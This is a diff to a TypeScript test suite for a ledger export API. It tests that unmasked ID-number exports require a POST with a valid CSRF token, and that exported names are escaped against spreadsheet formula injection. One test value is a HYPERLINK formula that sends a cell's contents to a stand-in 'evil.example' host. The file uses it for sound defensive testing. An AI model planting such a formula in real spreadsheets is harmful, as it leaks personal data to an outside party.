@@ -2,7 +2,7 @@
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { maskIdNumber } from '@xiezuo/shared/codes/idNumber';
+import { idNumberCheckChar, maskIdNumber } from '@xiezuo/shared/codes/idNumber';
 import { sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import iconv from 'iconv-lite';
@@ -401,7 +401,20 @@ describe('error workbook and export round-trips', () => {
     expect(masked.statusCode).toBe(200);
     const m = await readSheet(masked.rawPayload);
     expect(m.slice(3).map((r) => r[1])).toEqual(['4414**********0011', '4414**********0029', '4414**********0031']);
-    const revealed = await admin.get(`/api/ledgers/${KEY}/export?year=2023&reveal=1`);
+    // a revealing export is a POST with the CSRF token: as a link (GET) or without the token it is refused, and nothing is revealed
+    const link = await admin.get(`/api/ledgers/${KEY}/export?year=2023&reveal=1`);
+    expect(link.statusCode).toBe(400);
+    expect(link.json().details).toEqual([{ path: 'querystring.reveal', message: expect.stringContaining('不能通过链接打开') }]);
+    const forged = await admin.post(
+      `/api/ledgers/${KEY}/export`,
+      { filters: { year: '2023' }, reveal: true },
+      { 'x-csrf-token': 'forged' },
+    );
+    expect(forged.statusCode).toBe(403);
+    expect(forged.json().code).toBe('CSRF');
+    expect(await t.services.database.query(`select 1 from audit_log where action = 'reveal'`)).toEqual([]);
+    const revealed = await admin.post(`/api/ledgers/${KEY}/export`, { filters: { year: '2023' }, reveal: true });
+    expect(revealed.statusCode).toBe(200);
     const sheet = await readSheet(revealed.rawPayload);
     expect(sheet.slice(3).map((r) => r[1])).toEqual([A, B, C]);
     expect(sheet[4][6]).toBe(2500);
@@ -413,10 +426,29 @@ describe('error workbook and export round-trips', () => {
     expect(round.dry).toMatchObject({ rowsRead: 3, valid: 3, unchanged: 3, toUpdate: 0, toInsert: 0 });
 
     const member = await t.userClient('member', 'team_member', { divisions: ['441426104000'] });
-    expect((await member.get(`/api/ledgers/${KEY}/export?reveal=1`)).statusCode).toBe(403);
+    expect((await member.post(`/api/ledgers/${KEY}/export`, { reveal: true })).statusCode).toBe(403);
     const outsider = await t.userClient('outsider', 'team_leader', { divisions: ['520221000000'] });
     const none = await readSheet((await outsider.get(`/api/ledgers/${KEY}/export`)).rawPayload);
     expect(none.length).toBe(3); // headers only: nothing in scope
+  });
+
+  it("exports text a spreadsheet could take for a formula with a leading ' (= + - @ here; tab and CR in ledgerValues.test), and reads it back unchanged", async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&B4,"点此")', '+86 王五', '-李四', '@SUM(A1:A9)', '普通姓名'];
+    for (const [i, name] of names.entries()) {
+      const first17 = `44142619800101${String(700 + i)}`;
+      await t.services.database.query(
+        `insert into ledger_example_members (id_number, year, name, division_code) values ($1, 2031, $2, '441426104000')`,
+        [first17 + idNumberCheckChar(first17), name],
+      );
+    }
+    const res = await admin.get(`/api/ledgers/${KEY}/export?year=2031`);
+    const cellsOut = (await readSheet(res.rawPayload)).slice(3).map((r) => r[1] && r[0]);
+    for (const n of names) expect(cellsOut).toContain(n === '普通姓名' ? n : `'${n}`);
+    const sheetXml = await (await JSZip.loadAsync(res.rawPayload)).file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(sheetXml).not.toContain('<f>'); // no formula anywhere
+    const revealed = await admin.post(`/api/ledgers/${KEY}/export`, { filters: { year: '2031' }, reveal: true });
+    const round = await importAndCommit(admin, 'formulas.xlsx', revealed.rawPayload);
+    expect(round.dry).toMatchObject({ valid: cellsOut.length, unchanged: cellsOut.length, toUpdate: 0, toInsert: 0 });
   });
 
   it("an import is its uploader's: others get 404", async () => {
